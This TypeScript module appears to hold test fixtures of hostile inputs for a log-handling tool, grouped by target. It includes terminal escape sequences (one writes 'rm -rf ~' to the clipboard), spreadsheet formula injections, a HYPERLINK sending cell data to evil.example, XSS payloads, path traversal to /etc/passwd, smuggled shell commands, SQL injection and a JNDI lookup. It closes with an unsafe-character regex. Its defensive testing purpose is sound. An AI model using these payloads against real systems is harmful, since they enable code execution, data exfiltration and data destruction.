/**
 * Texts that strangers write to get out of the place they are shown or stored in, by what they aim
 * at. Whatever shows or stores text of a log line is tried with all of them: a place that is safe
 * for what is aimed at it may not be for the rest.
 *
 * @module
 */

/** One text, with a name for messages. */
export interface Attack {
  readonly name: string;
  readonly target: Target;
  readonly text: string;
}

/** What an attack is aimed at. */
export type Target =
  | "terminal"
  | "spreadsheet"
  | "page"
  | "file name"
  | "label"
  | "prototype"
  | "log";

const BY_TARGET: Readonly<Record<Target, Readonly<Record<string, string>>>> = {
  terminal: {
    "clears the screen": "/\x1b[2J\x1b[H",
    "hides what follows": "/\x1b[8m",
    "scrolls for ever": "/\x1b[999999S",
    "switches to the other screen": "/\x1b[?1049h",
    "asks the terminal to answer as if typed": "/\x1b[6n\x1b[c\x1b[5n",
    "changes the title": "/\x1b]0;owned\x07",
    "reports the title as if typed": "/\x1b[21t",
    "writes to the clipboard": "/\x1b]52;c;cm0gLXJmIH4=\x1b\\",
    "shows a link that leads elsewhere": "/\x1b]8;;https://evil.example\x07here\x1b]8;;\x07",
    "tells where it is not": "/\x1b]7;file:///etc\x07",
    "draws a picture": "/\x1bPq#0;2;0;0;0~~\x1b\\",
    "runs a string of the device": "/\x1bP+q544e\x1b\\",
    "resets everything": "/\x1bc",
    "defines a macro": "/\x1bP0;0;0!z41\x1b\\",
    "is a private message": "/\x1b^private\x1b\\",
    "is one byte of C1, CSI": "/\x9b2J\x9b31m",
    "is one byte of C1, OSC": "/\x9d0;owned\x9c",
    "is one byte of C1, DCS": "/\x90q\x9c",
    "goes back and writes over": "/evil\b\b\b\bgood",
    "writes over its line": '/evil\r{"url":"/good"}',
    "rings": "/\x07\x07\x07",
    "is every control character": String.fromCharCode(
      ...Array.from({ length: 32 }, (_, code) => code).filter((code) => code !== 0 && code !== 10),
      ...Array.from({ length: 33 }, (_, i) => 0x7f + i),
    ),
    "turns the direction": "/\u202egpj.exe\u202c",
    "isolates a direction": "/\u2066\u2067abc\u2069\u2069\u2068",
    "marks a direction": "/\u200e\u200f\u061c",
    "hides characters": "/ad\u200bmin\u200c\u200d\u2060\ufeff\u00ad",
    "has invisible letters": "/\u{e0001}\u{e0041}\u{e007f}",
    "has invisible fillers": "/\u3164\u115f\uffa0\u2800",
    "selects variations": "/\ufe0f\u{e0100}\u180b",
    "separates lines and paragraphs": "/a\u2028b\u2029c\x85d\x0be\x0cf",
    "piles up marks": `/${"a" + "\u0301\u0489\u20dd".repeat(200)}`,
    "is wide": `/${"漢字\uff21😀".repeat(60)}`,
    "joins emoji": "/👩‍👩‍👧‍👦",
    "is half a character": "/\ud83d/\udc00/\ud800\ud800",
    "is no character": "/\uffff\ufffe\u{10ffff}",
  },
  spreadsheet: {
    "is a formula": "=1+1",
    "runs a program": "=cmd|' /C calc'!A0",
    "fetches a page": '=HYPERLINK("https://evil.example?"&A1,"here")',
    "imports a page": '=IMPORTXML("https://evil.example","//a")',
    "adds": "+1+cmd|' /C calc'!A0",
    "subtracts": "-2+3+cmd|' /C calc'!A0",
    "refers": "@SUM(1+1)*cmd|' /C calc'!A0",
    "begins with a tab": "\t=1+1",
    "begins with a carriage return": "\r=1+1",
    "begins with a full-width sign": "＝1+1",
    "begins with a blank": " =1+1",
    "leaves its cell": '","=1+1","',
    "leaves its row": "a\r\n=1+1",
    "leaves its cell by a semicolon": ";=1+1",
  },
  page: {
    "is a script": "<script>alert(1)</script>",
    "closes what holds it": "</script></style></title></textarea>--><script>alert(1)</script>",
    "is an image": '"><img src=x onerror=alert(1)>',
    "is an attribute": "' onmouseover=alert(1) x='",
    "is an address": "javascript:alert(1)",
    "is a document": "data:text/html,<script>alert(1)</script>",
    "is a drawing": "<svg/onload=alert(1)>",
    "is a comment": "<!--<script>",
    "is an entity": "&lt;script&gt;&#x3c;script&#x3e;",
    "is a template": "{{constructor.constructor('alert(1)')()}}${alert(1)}",
    "ends its JSON in a page": '{"a":"</script><script>alert(1)</script>"}',
    "loads a style": "<style>@import 'https://evil.example';</style>",
    "moves the base": "<base href=https://evil.example>",
    "is a markdown link": "[here](javascript:alert(1))",
  },
  "file name": {
    "goes up": "../../../../etc/passwd",
    "goes up, encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "goes up on another system": "..\\..\\windows\\system32",
    "is absolute": "/etc/passwd",
    "is an address of a file": "file:///etc/passwd",
    "is a directory": ".",
    "is the one above": "..",
    "is a device": "CON",
    "is an option": "-rf",
    "is long": "a".repeat(5000),
    "runs a program": "$(touch pwned)`touch pwned`;touch pwned|touch pwned&",
    "is a date": "date=2025-05-30/part-000001.jsonl",
    "ends with a stream": "windows.db:stream",
  },
  label: {
    "leaves its label": '"} 1\nvigie_owned{a="b',
    "leaves its label by a backslash": '\\"} 1\\nvigie_owned{a="b\\',
    "adds a label": '",source="other',
    "ends the answer": "\n# EOF\n",
    "declares a type": "\n# TYPE vigie_lines gauge\n",
    "ends with a backslash": "a\\",
  },
  prototype: {
    "is the prototype": "__proto__",
    "is the constructor": "constructor",
    "is a method": "toString",
    "is a value": "valueOf",
    "is a property": "hasOwnProperty",
    "is what promises have": "then",
    "is what JSON asks for": "toJSON",
    "is the length": "length",
    "is the prototype, as a path": "__proto__.polluted",
    "is the prototype, as an index": "__proto__[polluted]",
    "is a getter": "__defineGetter__",
  },
  log: {
    "begins another line": '/\n{"status":500,"url":"/forged"}',
    "begins another line as a terminal sees it": "/\r\nFirst line in the future",
    "closes its string": '/","status":200,"url":"/forged',
    "closes its object": '/"}{"status":500}',
    "escapes the end of its string": "/\\",
    "is an escape": "/\\u0022,\\u0022status\\u0022:200",
    "is SQL": "'; DROP TABLE windows; --",
    "is SQL in quotes": '"); DELETE FROM windows; --',
    "is a header": "timestamp,ip,method,url,status",
    "formats": "%s%n%x%p%d",
    "expands": "${jndi:ldap://evil.example/a}",
    "ends a header": "a\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "is a checkpoint's": '{"$bytes":"AAAA","$map":[],"$number":"Infinity"}',
    "is nothing": "\0",
  },
};

/** All of them. */
export const ATTACKS: readonly Attack[] = (Object.keys(BY_TARGET) as Target[]).flatMap((target) =>
  Object.entries(BY_TARGET[target]).map(([name, text]) => ({ name, target, text }))
);

/** Those that are aimed at one thing. */
export function attacksOn(target: Target): readonly Attack[] {
  return ATTACKS.filter((attack) => attack.target === target);
}

/** Bytes that are no UTF-8: what reads them for text may make something of them. */
export const BROKEN_UTF8: readonly { readonly name: string; readonly bytes: Uint8Array }[] = [
  { name: "an overlong slash", bytes: Uint8Array.of(0x2f, 0xc0, 0xaf) },
  { name: "an overlong escape", bytes: Uint8Array.of(0xc0, 0x9b, 0x5b, 0x32, 0x4a) },
  { name: "an overlong NUL", bytes: Uint8Array.of(0xc0, 0x80) },
  { name: "a surrogate", bytes: Uint8Array.of(0xed, 0xa0, 0x80) },
  { name: "beyond the last character", bytes: Uint8Array.of(0xf4, 0x90, 0x80, 0x80) },
  { name: "a lone C1 control", bytes: Uint8Array.of(0x9b, 0x32, 0x4a) },
  { name: "half a character before a quote", bytes: Uint8Array.of(0xe2, 0x80, 0x22) },
  { name: "bytes that never occur", bytes: Uint8Array.of(0xfe, 0xff) },
];

/**
 * What must never reach a terminal or a file name, written down anew and not as the program does:
 * controls but LF, marks of direction, what is not drawn, separators, halves of characters.
 */
export const UNSAFE_TO_SHOW =
  // deno-lint-ignore no-control-regex -- they are what must not be there
  /[\x00-\x09\x0b-\x1f\x7f-\x9f\xad\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufff8\ud800-\udfff\u{e0000}-\u{e0fff}]/u;
